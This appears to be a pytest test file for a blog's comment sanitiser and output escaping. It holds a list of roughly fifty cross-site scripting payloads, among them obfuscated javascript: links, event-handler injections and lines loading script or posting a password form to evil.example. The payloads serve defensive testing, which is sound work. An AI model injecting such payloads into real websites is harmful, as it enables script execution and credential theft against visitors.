"""Hostile markup: comments keep harmless formatting and lose everything that could run,
and no other field a user controls can inject markup where it is shown."""
import html as html_lib
import re
from html.parser import HTMLParser

import pytest

from blog import sanitize
from blog.extensions import db
from tests import factories

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
    "<a href=\"java\tscript:alert(1)\">tab</a>",
    "<a href=\"&#106;avascript:alert(1)\">entity</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">hex entity</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\" onmouseover=alert(1)>events</a>",
    "<a href=\"https://ok.example\" style=\"position:fixed;top:0\">style</a>",
    "<b onmouseover=alert(1)>bold</b>",
    "<p style=\"background:url(javascript:alert(1))\">styled</p>",
    "<div style=\"width:expression(alert(1))\">ie</div>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<form action=\"https://evil.example\"><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</li></ol></section></main><script>alert(1)</script>",
    "<blockquote><p>unclosed <em>markup",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<a href=\"https://ok.example\" target=\"_blank\" rel=\"opener\">opener</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<a href=\"  javascript:alert(1)\">space</a>",
    "<a href=\"/relative/path\">relative</a>",
    "<abbr title=\"x\" onmouseover=\"alert(1)\">abbr</abbr>",
    "<q cite=\"javascript:alert(1)\">quote</q>",
]

ALLOWED_TAGS = set(sanitize.COMMENT_TAGS)


class Collector(HTMLParser):
    """Records every start tag and attribute of the stored HTML."""

    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def parse(fragment):
    collector = Collector()
    collector.feed(fragment)
    return collector.tags


@pytest.mark.parametrize("payload", PAYLOADS)
def test_stored_comment_html_holds_nothing_executable(payload):
    stored = sanitize.clean_comment(payload)
    for tag, attrs in parse(stored):
        assert tag in ALLOWED_TAGS, (tag, stored)
        for name, value in attrs.items():
            assert not name.startswith("on"), stored
            assert name in ("href", "title", "rel"), (name, stored)
            if name == "href":
                cleaned = re.sub(r"[\s\x00-\x1f]", "", html_lib.unescape(value)).lower()
                assert cleaned.startswith(("http:", "https:", "mailto:")), stored
                assert attrs.get("rel") == "nofollow ugc noopener", stored


@pytest.mark.parametrize("typed, kept", [
    ("<em>emphasis</em> and <strong>strength</strong>", "<em>emphasis</em> and <strong>strength</strong>"),
    ("<blockquote>quoted</blockquote>", "<blockquote>quoted</blockquote>"),
    ("<code>x = 1</code>", "<code>x = 1</code>"),
    ("<ul><li>one</li><li>two</li></ul>", "<ul><li>one</li><li>two</li></ul>"),
    ("<a href=\"https://film.example/x\">a link</a>",
     '<a href="https://film.example/x" rel="nofollow ugc noopener">a link</a>'),
    ("mail <a href=\"mailto:a@b.example\">me</a>", 'href="mailto:a@b.example"'),
    ("<del>old</del> <s>older</s> <q>said</q> <cite>Film</cite>", "<del>old</del> <s>older</s>"),
    ("5 < 6 and 7 > 3", "5 &lt; 6 and 7 &gt; 3"),
])
def test_harmless_formatting_survives(typed, kept):
    assert kept in sanitize.clean_comment(typed)


def test_unbalanced_markup_cannot_break_the_page():
    stored = sanitize.clean_comment("<blockquote><p>unclosed <em>markup")
    opened = [tag for tag, _ in parse(stored)]
    for tag in set(opened):
        assert stored.count(f"<{tag}") == stored.count(f"</{tag}>"), stored


def test_payloads_posted_through_the_form_never_reach_the_page(client, auth, ctx, users, app):
    app.config["RATELIMIT_COMMENT"] = "100 per minute"
    review = factories.review("Target", author=users["author"], slug="target")
    factories.comment(review, users["commenter"], "approved earlier")
    from tests.test_comments import send
    auth.login("reader1")
    # A payload that cleans to nothing is refused (422), the others are published.
    answers = [send(client, "target", payload).status_code for payload in PAYLOADS]
    assert set(answers) == {302, 422}
    page = client.get("/reviews/target").get_data(as_text=True)
    body = page[page.index('id="comments"'):]
    assert "<script" not in body.lower().replace("&lt;script", "")
    assert "onerror=" not in body and "onload=" not in body and "javascript:" not in body


@pytest.mark.parametrize("field", ["display_name", "username"])
def test_names_are_escaped_wherever_shown(client, ctx, users, field):
    evil = '<img src=x onerror=alert(1)>"\''
    writer = users["commenter"]
    setattr(writer, field, evil)
    if field == "display_name":
        users["author"].display_name = "<script>alert(2)</script>"
    db.session.commit()
    review = factories.review("Names", author=users["author"], slug="names")
    factories.comment(review, writer, "hello")
    for path in ("/", "/reviews/names", "/about", f"/authors/{users['author'].username}"):
        page = client.get(path).get_data(as_text=True)
        assert "<img src=x" not in page and "<script>alert(2)" not in page, path
    assert "&lt;img src=x onerror=alert(1)&gt;" in client.get("/reviews/names").get_data(
        as_text=True)


def test_report_reason_is_stored_as_text_and_escaped(client, auth, ctx, users):
    from tests.conftest import csrf_token_from
    review = factories.review("Reported", author=users["author"], slug="reported")
    theirs = factories.comment(review, users["admin"], "questionable")
    auth.login("reader1")
    page = client.get(f"/comments/{theirs.id}/report").get_data(as_text=True)
    reason = "<script>alert(3)</script>"
    client.post(f"/comments/{theirs.id}/report",
                data={"csrf_token": csrf_token_from(page), "reason": reason})
    db.session.rollback()
    from blog.models import CommentReport
    import sqlalchemy as sa
    assert db.session.scalar(sa.select(CommentReport.reason)) == reason  # kept as typed
